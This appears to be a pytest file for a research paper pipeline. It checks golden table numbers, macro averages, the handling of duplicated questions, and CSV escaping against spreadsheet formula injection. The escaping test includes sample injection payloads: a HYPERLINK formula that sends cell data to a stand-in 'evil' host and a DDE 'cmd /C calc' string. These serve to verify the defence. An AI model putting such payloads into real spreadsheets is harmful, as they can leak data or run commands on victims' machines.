"""Numbers of the paper's page that may not move, and CSV as spreadsheets read it."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from pipeline.paper.aggregates import macro
from pipeline.paper.beliefs import from_other_half
from pipeline.paper.evaluation import evaluate
from pipeline.paper.page import build
from pipeline.paper.replays import Maker
from pipeline.replay.pools import read_pool
from pipeline.results.column import Column, numbered
from pipeline.results.compare import compare
from pipeline.results.csv_lines import csv_line, csv_lines
from pipeline.statistics.intervals import mean_interval

GOLDEN = json.loads((Path(__file__).parent / "data" / "paper_numbers.json").read_text("utf-8"))


@pytest.fixture(scope="module")
def files() -> dict[str, list[dict[str, str]]]:
    """The lines of every CSV file of the small pool's page, by name."""
    patch = pytest.MonkeyPatch()
    patch.setattr("pipeline.paper.opponents.SPLITS", 2)  # of fronts, which take most of the time
    pool = read_pool("tests/data/pool")
    believed = from_other_half(pool)
    maker = Maker(pool.science, believed.p0_source)
    made = evaluate(believed, pool.science.generator.model, maker)
    files = list(build([made]))
    patch.undo()
    return {
        name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(content)))
        for name, content in files
        if name.endswith(".csv")
    }


@pytest.mark.parametrize(
    "table", [name for name in GOLDEN if name not in ("comparisons", "fronts")]
)
def test_accuracy_and_tokens_of_every_cell_stay(
    files: dict[str, list[dict[str, str]]], table: str
) -> None:
    """As they were recorded, row by row."""
    found = {f"{row['row']}, {row['column']}": row for row in files[table]}
    for name, (accuracy, tokens) in GOLDEN[table].items():
        assert float(found[name]["accuracy"]) == pytest.approx(accuracy, abs=1e-8)
        assert float(found[name]["tokens"]) == pytest.approx(tokens, abs=1e-5)


def test_differences_stay(files: dict[str, list[dict[str, str]]]) -> None:
    """With their ends, p-values before correction, and tokens saved."""
    found = {f"{row['first']} against {row['second']}": row for row in files["comparisons"]}
    names = ("difference", "difference_low", "difference_high", "p", "saved")
    for pair, values in GOLDEN["comparisons"].items():
        assert [float(found[pair][name]) for name in names] == pytest.approx(values, abs=1e-8)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ('=HYPERLINK("http://evil/?"&A1,"click")', '\'=HYPERLINK("http://evil/?"&A1,"click")'),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+cmd", "'+cmd"),
        ("-x", "'-x"),
        ("-3", "-3"),
        ("+2.5e3", "+2.5e3"),
        ("a=b", "a=b"),
        (-3, "-3"),
        (None, ""),
    ],
)
def test_no_cell_is_a_formula(value: Any, shown: str) -> None:
    """Text that a spreadsheet would run gets an apostrophe; numbers stay numbers."""
    (row,) = csv.reader(io.StringIO(csv_line([value, "x"]), newline=""))

    assert row == [shown, "x"]
    assert csv_lines([{"a": value}], ["a", "b"]) == f"a,b\n{csv_line([value, None])}\n"


def test_averages_over_benchmarks_weigh_each_alike() -> None:
    """Two benchmarks of 4 and 2 questions: the macro average is the mean of 0.5 and 1.0; its error
    is that of both means."""
    found = macro([np.array([1.0, 0.0, 1.0, 0.0, np.nan]), np.array([1.0, 1.0])])
    half = mean_interval([1.0, 0.0, 1.0, 0.0]).half_width / 2

    assert found.value == 0.75
    assert (found.low, found.high) == pytest.approx((0.75 - half, 0.75 + half))


def test_claims_and_averages_are_of_the_page(files: dict[str, list[dict[str, str]]]) -> None:
    """Gains, savings and averages over one benchmark are those of the cells of its tables."""
    claims = {row["claim"]: row for row in files["claims"]}
    main = {row["row"]: float(row["accuracy"]) for row in files["main"] if row["accuracy"]}
    tokens = {row["row"]: float(row["tokens"]) for row in files["main"] if row["tokens"]}
    for claim, rival in (
        ("gain over Base", "Base"),
        ("gain over MR-Thinking, last", "MR-Thinking"),
        ("stopping: accuracy over the gate alone", "MarkovScale\N{MODIFIER LETTER SMALL T}"),
    ):
        assert float(claims[claim]["ours"]) == pytest.approx(main["MarkovScale*"] - main[rival])
    saved = 1 - tokens["MarkovScale*"] / tokens["MR-Thinking"]
    for claim in ("least saved of MR-Thinking", "gate and stopping: saved of neither"):
        assert float(claims[claim]["ours"]) == pytest.approx(saved)
    (star,) = [row for row in files["aggregates"] if row["aggregate"] == "MarkovScale*, N = 8"]
    assert float(star["ours"]) == pytest.approx(main["MarkovScale*"])


def column(right: list[float], copies: list[str] | None = None, tokens: float = 1.0) -> Column:
    """One setting on questions that are copies of each other where they have the same letter."""
    return Column(
        backbone="b", benchmark="q", method="m", kind="k", n=8, rule="last",
        copies_Q=None if copies is None else numbered(copies),
        right_Q=np.array(right), tokens_Q=np.full(len(right), tokens),
    )  # fmt: skip


def test_copies_of_a_question_count_as_repeats_of_it() -> None:
    """Five copies of each of 40 questions have the value and the interval of 40 shares, not of 200
    questions, and so has a difference; questions that all differ are left as they are."""
    rng = np.random.default_rng(3)
    right_QC, rival_QC = (rng.integers(0, 2, (40, 5)).astype(float) for _ in range(2))
    letters = [str(q) for q in range(40) for _ in range(5)]
    mine, theirs = (column(x.ravel().tolist(), letters) for x in (right_QC, rival_QC))

    assert mine.accuracy == mean_interval(right_QC.mean(axis=1))
    made = compare(mine, theirs)
    assert made is not None
    assert made.n_questions == 40
    assert made.accuracy == mean_interval((right_QC - rival_QC).mean(axis=1))
    assert numbered(["a", "b", "c"]) is None


def test_copies_do_not_change_what_is_not_repeated() -> None:
    """A copy that answers as its first does adds nothing: count, interval and p stay."""
    right, rival = [1.0] * 12 + [0.0] * 8, [1.0, 0.0] * 10
    once, rival_once = column(right), column(rival)
    letters = [str(q) for q in range(20)] * 2
    twice, rival_twice = column(right * 2, letters), column(rival * 2, letters)

    assert twice.accuracy == once.accuracy
    made, again = compare(once, rival_once), compare(twice, rival_twice)
    assert made is not None
    assert again is not None
    assert (again.accuracy, again.p_accuracy) == (made.accuracy, made.p_accuracy)


def test_ungraded_answers_have_their_bounds_beside_the_accuracy() -> None:
    """5 right and 5 ungraded: 100 % of the graded ones, 50 to 100 % of all."""
    assert column([1.0] * 5 + [np.nan] * 5).bounds == (0.5, 1.0)
    assert column([1.0, 0.0]).bounds is None
    assert column([np.nan, np.nan]).bounds is None
